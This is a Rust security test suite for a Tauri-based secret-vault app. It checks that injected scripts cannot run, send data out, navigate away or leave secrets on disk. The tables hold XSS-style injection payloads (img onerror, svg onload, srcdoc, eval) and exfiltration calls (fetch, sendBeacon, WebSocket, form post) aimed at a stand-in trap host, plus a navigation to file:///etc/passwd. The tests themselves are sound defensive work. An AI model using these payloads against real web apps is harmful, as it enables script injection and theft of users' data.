//! What a page may not do, even when somebody else's script runs in it (SECURITY §e).

use std::net::TcpListener;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, Instant};

use keyward_tests::home::{Home, PASSPHRASE};
use keyward_tests::process::wait_for;
use serde_json::json;

use crate::app::{App, PATIENCE, ended};

/// Counts whoever connects.
fn trap() -> (TcpListener, String) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let address = listener.local_addr().unwrap().to_string();
    (listener, address)
}

/// Each returns a promise that ends when it had its chance; `hit(name)` says that it ran or that bytes left.
const INJECTIONS: &[(&str, &str)] = &[
    (
        "script element",
        "const s = document.createElement('script'); s.textContent = 'hit(\"script\")'; document.head.append(s);",
    ),
    (
        "script from the web",
        "const s = document.createElement('script'); s.src = 'http://TRAP/x.js'; s.onload = () => hit('src'); document.head.append(s);",
    ),
    (
        "script from data",
        "const s = document.createElement('script'); s.src = 'data:text/javascript,hit(\"data\")'; document.head.append(s);",
    ),
    (
        "script from blob",
        "const s = document.createElement('script'); s.src = URL.createObjectURL(new Blob(['hit(\"blob\")'])); document.head.append(s);",
    ),
    (
        "img onerror",
        "const d = document.createElement('div'); d.innerHTML = '<img src=x onerror=\"hit(1)\">'; document.body.append(d);",
    ),
    (
        "svg onload",
        "const d = document.createElement('div'); d.innerHTML = '<svg onload=\"hit(1)\"></svg><details open ontoggle=\"hit(1)\">'; document.body.append(d);",
    ),
    (
        "onclick attribute",
        "const b = document.createElement('button'); b.setAttribute('onclick', 'hit(1)'); document.body.append(b); b.click(); b.remove();",
    ),
    ("eval", "try { (0, eval)('hit(1)'); } catch {}"),
    ("Function", "try { new Function('hit(1)')(); } catch {}"),
    ("setTimeout of text", "setTimeout('hit(1)', 0);"),
    (
        "srcdoc frame",
        "const f = document.createElement('iframe'); f.srcdoc = '<script>parent.hit(1)</script>'; document.body.append(f);",
    ),
    (
        "frame of the web",
        "const f = document.createElement('iframe'); f.src = 'http://TRAP/'; document.body.append(f);",
    ),
    (
        "fetch https",
        "await fetch('https://example.com/').then(() => hit(1), () => {});",
    ),
    (
        "fetch loopback",
        "await fetch('http://TRAP/').then(() => hit(1), () => {});",
    ),
    (
        "beacon",
        "try { navigator.sendBeacon('http://TRAP/b', 'x'); } catch {}",
    ),
    (
        "socket",
        "try { new WebSocket('ws://TRAP/').onopen = () => hit(1); } catch {}",
    ),
    (
        "event source",
        "try { new EventSource('http://TRAP/'); } catch {}",
    ),
    (
        "image",
        "const i = new Image(); i.src = 'http://TRAP/i.png'; document.body.append(i);",
    ),
    (
        "style import",
        "const s = document.createElement('style'); s.textContent = '@import url(http://TRAP/s.css)'; document.head.append(s);",
    ),
    (
        "form",
        "const f = document.createElement('form'); f.action = 'http://TRAP/f'; f.method = 'post'; document.body.append(f); f.submit();",
    ),
    (
        "worker",
        "try { new Worker(URL.createObjectURL(new Blob(['fetch(\"http://TRAP/w\")']))); } catch {}",
    ),
    (
        "base",
        "const b = document.createElement('base'); b.href = 'http://TRAP/'; document.head.append(b); const i = new Image(); i.src = 'rel.png'; b.remove();",
    ),
];

/// Each would leave the app's own page.
const DEPARTURES: &[(&str, &str)] = &[
    ("location", "location.href = 'http://TRAP/'"),
    ("location https", "location.assign('https://example.com/')"),
    ("file", "location.href = 'file:///etc/passwd'"),
    ("data", "location.href = 'data:text/html,gone'"),
    ("javascript", "location.href = 'javascript:hit(1)'"),
    (
        "blob",
        "location.href = URL.createObjectURL(new Blob(['<h1>gone</h1>'], { type: 'text/html' }))",
    ),
    ("other app host", "location.href = 'tauri://elsewhere/'"),
    ("window.open", "window.open('http://TRAP/')"),
    ("window.open self", "window.open('http://TRAP/', '_self')"),
    (
        "blank target",
        "const a = document.createElement('a'); a.href = 'http://TRAP/'; a.target = '_blank'; document.body.append(a); a.click(); a.remove()",
    ),
    (
        "link",
        "const a = document.createElement('a'); a.href = 'http://TRAP/'; document.body.append(a); a.click(); a.remove()",
    ),
    (
        "download",
        "const a = document.createElement('a'); a.href = 'http://TRAP/'; a.download = 'x'; document.body.append(a); a.click(); a.remove()",
    ),
    (
        "meta refresh",
        "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=http://TRAP/'; document.head.append(m)",
    ),
];

/// W-02, W-05: 0 injections run, 0 bytes leave, 0 navigations.
#[test]
fn w02_w05_nothing_runs_and_nothing_leaves() {
    let app = App::start(Home::with_vault().unwrap()).unwrap();
    app.window.wait_text("Vault locked").unwrap();
    let (listener, address) = trap();
    app.window
        .script(
            "window.hits = []; window.hit = (name) => window.hits.push(name); window.stayed = true",
            &[],
        )
        .unwrap();
    let home = app.window.url().unwrap();
    for (name, body) in INJECTIONS {
        let body = body.replace("TRAP", &address);
        let body = format!(
            "return (async () => {{ {body}; await new Promise((done) => setTimeout(done, 60)); return window.hits }})()"
        );
        let hits = app.window.script(&body, &[]).unwrap();
        assert_eq!(hits, json!([]), "W-02: {name} ran");
        assert!(listener.accept().is_err(), "W-02: {name} connected");
    }
    for (name, body) in DEPARTURES {
        app.window.script(&body.replace("TRAP", &address), &[]).unwrap();
        std::thread::sleep(Duration::from_millis(80));
        assert_eq!(app.window.url().unwrap(), home, "W-05: {name} left the page");
        assert_eq!(
            app.window.script("return window.stayed === true", &[]).unwrap(),
            true,
            "W-05: {name}"
        );
        assert_eq!(
            app.window.windows().unwrap().len(),
            1,
            "W-05: {name} opened a window"
        );
        assert!(listener.accept().is_err(), "W-05: {name} connected");
    }
    assert_eq!(
        app.window.script("return window.hits", &[]).unwrap(),
        json!([]),
        "W-05: a script ran"
    );
    // The page still works after all that.
    assert_eq!(
        app.invoke("vault_status", &json!({ "request": {} })).unwrap()["locked"],
        true
    );
}

/// W-03, W-07, W-08: what the page may call, with what, and how often.
#[test]
fn w03_w07_w08_only_what_is_listed() {
    let app = App::start(Home::with_vault().unwrap()).unwrap();
    app.window.wait_text("Vault locked").unwrap();
    assert_eq!(
        app.window.script("return typeof window.__TAURI__", &[]).unwrap(),
        "undefined"
    );
    assert_eq!(
        app.window
            .script("return Object.isFrozen(Object.prototype)", &[])
            .unwrap(),
        true
    );
    for (command, request) in [
        (
            "plugin:window|set_title",
            json!({ "label": "main", "value": "x" }),
        ),
        ("plugin:event|emit", json!({ "event": "change", "payload": null })),
        (
            "plugin:webview|create_webview_window",
            json!({ "options": { "label": "x", "url": "index.html" } }),
        ),
        ("plugin:app|version", json!({})),
        ("plugin:path|resolve_directory", json!({ "directory": 1 })),
        ("plugin:resources|close", json!({ "rid": 1 })),
        (
            "resolve",
            json!({ "request": { "environment": "default", "references": [] } }),
        ),
        (
            "token",
            json!({ "request": { "environment": "default", "connection": "x" } }),
        ),
        ("audit_list", json!({ "request": {} })),
    ] {
        assert!(app.invoke(command, &request).is_err(), "W-03: {command} is open");
    }
    // W-07: fields that are not known are refused.
    assert!(
        app.invoke("vault_status", &json!({ "request": { "extra": 1 } }))
            .is_err()
    );
    assert!(app.invoke("vault_lock", &json!({})).is_err());
    let locked = app
        .invoke("secret_list", &json!({ "request": { "environment": "default" } }))
        .unwrap_err();
    assert!(locked.to_string().contains("\"locked\""), "{locked}");
    // W-08: the second reveal within a second is refused, whatever it asks for.
    let reveal = json!({ "request": { "environment": "default", "secret": "NONE" } });
    let first = app.invoke("secret_reveal", &reveal).unwrap_err().to_string();
    let second = app.invoke("secret_reveal", &reveal).unwrap_err().to_string();
    assert!(first.contains("\"locked\""), "{first}");
    assert!(second.contains("\"denied\""), "{second}");

    // W-06: what a call through the isolation frame costs, beside a bare round trip to Rust that is refused there.
    let timed = |name: &str, call: &str| {
        // WebKit rounds its clock to whole milliseconds: many calls, one measurement.
        let body = format!(
            "return (async () => {{ const once = () => {call}; await once(); const from = performance.now(); \
             for (let n = 0; n < 300; n += 1) await once(); return (performance.now() - from) / 300; }})()"
        );
        let mean = app.window.script(&body, &[]).unwrap();
        println!("W-06: {name}: {:.2} ms", mean.as_f64().unwrap_or(f64::NAN));
    };
    timed(
        "a call",
        "window.__TAURI_INTERNALS__.invoke('appearance_get', { request: {} })",
    );
    timed(
        "a bare round trip",
        "fetch('ipc://localhost/appearance_get', { method: 'POST', body: '{}' }).catch(() => 0)",
    );
}

/// Stored before the window opens; in the page or its folder only as long as the vault is open.
const VALUES: [&str; 3] = [
    "canary-w09-value-3Kq8-one",
    "canary-w09-value-7Zd1-two",
    "canary-w09-value-5Wm4-three",
];
const NAMES: [&str; 3] = ["Canary Larch 09", "Canary Rowan 09", "Canary Alder 09"];

/// Whether a file below `folder` holds `text`, as UTF-8 or as UTF-16; the files that do.
fn holding(folder: &Path, text: &str) -> Vec<String> {
    let wide: String = text
        .bytes()
        .map(|byte| format!("{}\\x00", byte as char))
        .collect();
    let found = Command::new("grep")
        .args(["-r", "-l", "-a", "-P", "-e", &format!("{text}|{wide}")])
        .arg(folder)
        .env("LC_ALL", "C")
        .output()
        .unwrap();
    // 0 found, 1 not found; 2 a search that did not work.
    assert!(found.status.code().is_some_and(|code| code < 2), "{found:?}");
    let files = String::from_utf8_lossy(&found.stdout).into_owned();
    files.lines().map(str::to_owned).collect()
}

/// W-09: the webview's folder is private, below the runtime folder, and goes with the app; nothing of what was shown
/// is kept in it or in the page.
#[test]
fn w09_nothing_of_the_page_stays() {
    let home = Home::with_vault().unwrap();
    for (number, (name, value)) in NAMES.iter().zip(VALUES).enumerate() {
        home.keyward(&["secret", "add", &format!("CANARY_{number}"), "--name", name])
            .stdin(value)
            .output()
            .unwrap()
            .success()
            .unwrap();
    }
    let app = App::start(home).unwrap();
    app.window.wait_text("Vault locked").unwrap();
    let pid = app.pid().unwrap();
    let runtime = app.home.path().join("run/keyward");
    let folders = || -> Vec<PathBuf> {
        let homes = std::fs::read_dir(&runtime).unwrap().flatten();
        let inside = homes.flat_map(|home| std::fs::read_dir(home.path()).unwrap().flatten());
        inside
            .map(|entry| entry.path())
            .filter(|path| path.to_string_lossy().contains("webview-"))
            .collect()
    };
    let found = folders();
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(found[0].metadata().unwrap().permissions().mode() & 0o777, 0o700);
    assert!(found[0].to_string_lossy().ends_with(&format!("webview-{pid}")));

    // Everything the page ever shows of a secret: its name in the list, its value once revealed, the passphrase typed.
    app.fill("Passphrase", &format!("{PASSPHRASE}\u{E007}")).unwrap();
    for name in NAMES {
        app.window.wait_text(name).unwrap();
    }
    // Whichever is open: those of one second have no order.
    app.reveal("Reveal value of CANARY_").unwrap();
    app.window.find("[role=dialog]").unwrap();
    app.fill("Passphrase", &format!("{PASSPHRASE}\u{E007}")).unwrap();
    let shown = app.revealed().unwrap();
    assert!(VALUES.contains(&shown.as_str()), "{shown}");
    app.press("Lock").unwrap();
    app.window.wait_text("Vault locked").unwrap();
    let markup = app.markup().unwrap();
    let kept = app
        .window
        .script(
            "return [localStorage.length, sessionStorage.length, document.cookie]",
            &[],
        )
        .unwrap();
    assert_eq!(kept, json!([0, 0, ""]));
    let databases = app
        .window
        .script("return indexedDB.databases().then((all) => all.length)", &[])
        .unwrap();
    assert_eq!(databases, json!(0));
    // The search finds what is there.
    let control = found[0].join("control");
    std::fs::write(&control, VALUES[0]).unwrap();
    assert_eq!(holding(&found[0], VALUES[0]), [control.to_string_lossy()]);
    std::fs::remove_file(&control).unwrap();
    // The webview writes late what it writes.
    std::thread::sleep(Duration::from_secs(2));
    for canary in NAMES.iter().chain(&VALUES).chain(&[PASSPHRASE, "CANARY_0"]) {
        assert!(!markup.contains(canary), "W-09: {canary} is in the locked page");
        // The whole home: what the webview might write beside its folder, caches and thumbnails too.
        let files = holding(app.home.path(), canary);
        assert_eq!(files, [""; 0], "W-09: {canary}");
    }
    for folder in ["home", "data", "config", "cache", "state"] {
        let files = Command::new("find")
            .arg(app.home.path().join(folder))
            .args(["-type", "f"])
            .output()
            .unwrap();
        let files = String::from_utf8_lossy(&files.stdout).into_owned();
        let ours = files
            .lines()
            .filter(|file| file.to_lowercase().contains("keyward") || file.contains("webkit"))
            .count();
        assert_eq!(ours, 0, "W-09: {files}");
    }
    keyward_tests::process::signal(pid, "TERM").unwrap();
    ended(pid, PATIENCE).unwrap();
    let began = Instant::now();
    wait_for("the webview's folder to go", Duration::from_secs(3), || {
        folders().is_empty().then_some(())
    })
    .unwrap_or_else(|_| panic!("W-09: still there after {:?}", began.elapsed()));
}
